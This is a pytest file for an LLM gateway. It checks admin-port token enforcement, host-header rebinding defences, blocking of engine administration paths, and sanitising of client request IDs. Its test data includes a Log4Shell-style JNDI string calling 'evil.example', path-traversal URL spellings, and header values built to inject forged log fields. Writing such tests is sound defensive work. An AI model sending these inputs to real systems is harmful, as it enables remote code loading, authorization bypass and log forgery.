"""Who may do what: the operator's port is not open by omission, and no id of a client's is believed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from maitred.config.kinds import Address
from maitred.config.load import load
from maitred.config.raw import ConfigError
from maitred.config.secret import EnvSecret
from maitred.config.tree import Admin
from tests.cases.place import admin_port, on_sockets, serving
from tests.cases.upstream import GOOD, stream
from tests.net.http import get, post
from tests.proxy.place import CHAT, chat

ENDPOINTS, FINDINGS, RELOAD = "/admin/v1/endpoints", "/admin/v1/findings", "/admin/v1/reload"
TOKEN = "a-token-of-the-operator"
WRITES = [RELOAD, f"{ENDPOINTS}/m/127.0.0.1:1/drain", f"{ENDPOINTS}/m/127.0.0.1:1/undrain"]
FILE = "version: 1\nendpoints: [http://127.0.0.1:1]\n"
OF_ENGINES = [
    *("/flush_cache", "/sleep", "/wake_up", "/is_sleeping", "/update_weights", "/update_weights_from_disk"),
    *("/v1/load_lora_adapter", "/v1/unload_lora_adapter", "/collective_rpc", "/reset_prefix_cache"),
    *("/start_profile", "/stop_profile", "/get_server_info", "/server_info", "/abort_request", "/generate"),
    *("/invocations", "/metrics", "/slots", "/props", "/lora-adapters", "/version", "/docs", "/openapi.json"),
    *("/admin/v1/endpoints", "/admin/v1/reload", "/scale_elastic_ep", "/release_memory_occupation"),
]


class TestTheOperatorsPort:
    """B63: bricks-cloud/BricksLLM#106, and the engines' own administration behind a catch-all.

    An empty password switched the check off; /flush_cache, /sleep and /update_weights were in reach of every
    user. Without a token nothing can be changed; an empty one is none; what is no API's path is not there.
    """

    @on_sockets
    async def test_without_a_token_one_can_look_and_no_more(self) -> None:
        async with serving() as place, admin_port(place) as ask:
            rows = (await ask(ENDPOINTS)).json
            assert [row["state"] for row in rows] == ["ready"]
            for path in (*WRITES, f"{ENDPOINTS}/{rows[0]['name']}/drain"):
                for header in (
                    "X: y",
                    "Authorization: Bearer ",
                    "Authorization: Bearer None",
                    "Authorization:",
                ):
                    answer = await ask(path, header, method="POST")
                    assert answer.status == 403
                    assert "admin.token" in answer.json["error"]["message"]
            assert (await ask(ENDPOINTS)).json[0]["held"] is False

    @on_sockets
    async def test_with_one_it_is_needed_for_everything(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("OPERATORS_TOKEN", TOKEN)
        wrong = [
            "X: y",
            "Authorization: Bearer",
            "Authorization: Bearer wrong",
            f"Authorization: Basic {TOKEN}",
        ]
        wrong += [
            f"Authorization: Bearer {TOKEN}x",
            f"Authorization: Bearer {TOKEN[:-1]}",
            f"X-Api-Key: {TOKEN}",
        ]
        async with serving() as place, admin_port(place, EnvSecret("OPERATORS_TOKEN")) as ask:
            for header in wrong:
                for path in (ENDPOINTS, FINDINGS, "/admin/v1/nothing"):
                    answer = await ask(path, header)
                    assert answer.status == 401
                    assert answer.value(b"www-authenticate").startswith(b"Bearer")
                    assert TOKEN.encode() not in answer.body
                for path in WRITES:
                    assert (await ask(path, header, method="POST")).status == 401
            assert (await ask("/livez")).status == (await ask("/metrics")).status == 200
            mine = f"Authorization: Bearer {TOKEN}"
            (row,) = (await ask(ENDPOINTS, mine)).json
            assert (await ask(f"{ENDPOINTS}/{row['name']}/drain", mine, method="POST")).status == 200
            assert (await ask(ENDPOINTS, mine)).json[0]["held"] is True
            assert (await ask(f"{ENDPOINTS}/{row['name']}/undrain", mine, method="POST")).status == 200
            await place.ready()

    @pytest.mark.parametrize(
        "host", ["evil.example", "gateway", "localhost.evil.example", "127.0.0.1.evil.example"]
    )
    @on_sockets
    async def test_no_page_gets_there_by_another_name(self, host: str) -> None:
        async with serving() as place, admin_port(place) as ask:
            answer = await ask(ENDPOINTS, "Origin: https://evil.example", host=host)
            assert answer.status == 421
            own = await ask(ENDPOINTS, "Origin: https://evil.example", f"X-Forwarded-Host: {host}")
            assert own.status == 200
            for name, _ in (*answer.headers, *own.headers):
                assert not name.startswith(b"access-control")

    @pytest.mark.parametrize("secret", ["", "\n", "short", "               "])
    def test_an_empty_secret_is_no_secret(self, secret: str, tmp_path: Path) -> None:
        kept, file = tmp_path / "secret", tmp_path / "maitred.yaml"
        kept.write_text(secret)
        for place in ("{env: OPERATORS_TOKEN}", f"{{file: {kept}}}"):
            file.write_text(f"{FILE}admin: {{listen: 0.0.0.0:9000, token: {place}}}\n")
            with pytest.raises(ConfigError) as refused:
                load(file, environ={"OPERATORS_TOKEN": secret})
            assert len(refused.value.errors) == 1
            assert "admin.token" in refused.value.errors[0]

    @pytest.mark.parametrize("token", ["", "  token: null\n"])
    def test_beyond_loopback_it_does_not_start_without_one(self, token: str, tmp_path: Path) -> None:
        file = tmp_path / "maitred.yaml"
        for listen in ("0.0.0.0:9000", "192.0.2.1:9000", "[::]:9000"):
            file.write_text(f"{FILE}admin:\n  listen: '{listen}'\n{token}")
            with pytest.raises(ConfigError, match=r"admin\.token"):
                load(file, environ={})
        file.write_text(f"{FILE}admin: {{listen: 0.0.0.0:9000, token: {{env: OPERATORS_TOKEN}}}}\n")
        settings = load(file, environ={"OPERATORS_TOKEN": TOKEN}).admin
        assert settings == Admin(Address("0.0.0.0", 9000), EnvSecret("OPERATORS_TOKEN"))

    @pytest.mark.parametrize("method", ["GET", "POST", "PUT", "DELETE"])
    @on_sockets
    async def test_nobody_administers_an_engine_through_here(self, method: str) -> None:
        async with serving() as place:
            before = len(place.engines[0].questions)
            for path in OF_ENGINES:
                for spelled in (
                    path,
                    f"/v1{path}",
                    f"/{path}",
                    f"/v1/chat/completions/..{path}",
                    path.replace("/", "/%2e/", 1),
                ):
                    answer = await place.ask(get(spelled, "Content-Length: 0", method=method))
                    assert answer.status in (400, 404), spelled
            assert place.script.asked == []
            asked = set(place.engines[0].questions[before:])
            assert asked.isdisjoint({*OF_ENGINES} - {"/metrics", "/version"}), "which we read ourselves"


IDS = [
    "chosen-by-the-client",
    "x" * 8000,
    "\u00e9\u00fc",
    '","outcome":"completed","x":"',
    "{${jndi:ldap://evil.example/a}}",
    "req-0000000000000000",
]


class TestRequestIds:
    """B64: vllm-project/vllm#10968, BerriAI/litellm#39068.

    A client's id used as a key shows or hides another tenant's record, and a long one was repeated in every
    chunk. The id is always ours; the client's is a short, harmless word in the log, or nothing.
    """

    @pytest.mark.parametrize("client_id", IDS)
    @pytest.mark.parametrize("streamed", [False, True])
    @on_sockets
    async def test_ours_is_used_everywhere(self, client_id: str, streamed: bool) -> None:
        header = f"X-Request-Id: {client_id}".encode().decode("latin-1")
        request = post(CHAT, chat(stream=streamed)).replace(b"Host:", header.encode("latin-1") + b"\r\nHost:")
        async with serving(stream() if streamed else GOOD) as place:
            first, second = await place.ask(request), await place.ask(request)
            assert first.status == second.status == 200
            ours = [answer.value(b"x-request-id").decode() for answer in (first, second)]
            assert len(set(ours)) == 2
            assert client_id not in ours
            assert [asked.values("x-request-id") for asked in place.script.asked] == [[own] for own in ours]
            assert all(client_id.encode() not in bytes(received) for received in place.engines[0].received)
            assert [line["id"] for line in place.lines] == ours
            logged = {line.get("client_request_id") for line in place.lines}
            assert logged <= {client_id, None}
            assert all(len(word) <= 128 and word.isascii() and word.isprintable() for word in logged if word)

    @pytest.mark.parametrize("end", [b"\n", b"\r", b"\r\n x", b"\x00", b"\x1b[31m"])
    @on_sockets
    async def test_an_id_with_an_end_of_line_or_the_like_is_no_request(self, end: bytes) -> None:
        forged = b"X-Request-Id: a" + end + b'{"outcome":"completed"}\r\nHost:'
        async with serving() as place:
            answer = await place.ask(post(CHAT, chat()).replace(b"Host:", forged, 1))
            assert answer.status == 400
            assert place.script.asked == []
            (line,) = place.lines
            assert (line["outcome"], line.get("client_request_id")) == ("bad_request", None)

    @on_sockets
    async def test_one_of_64_kilobytes_is_too_large(self) -> None:
        async with serving() as place:
            answer = await place.ask(post(CHAT, chat(), f"X-Request-Id: {'x' * 65_536}"))
            assert (answer.status, answer.outcome) == (431, "headers_too_large")
            assert len(answer.body) < 1024
            assert json.loads(answer.body)["error"]["type"] == "invalid_request_error"
            assert len(json.dumps(place.lines)) < 1024
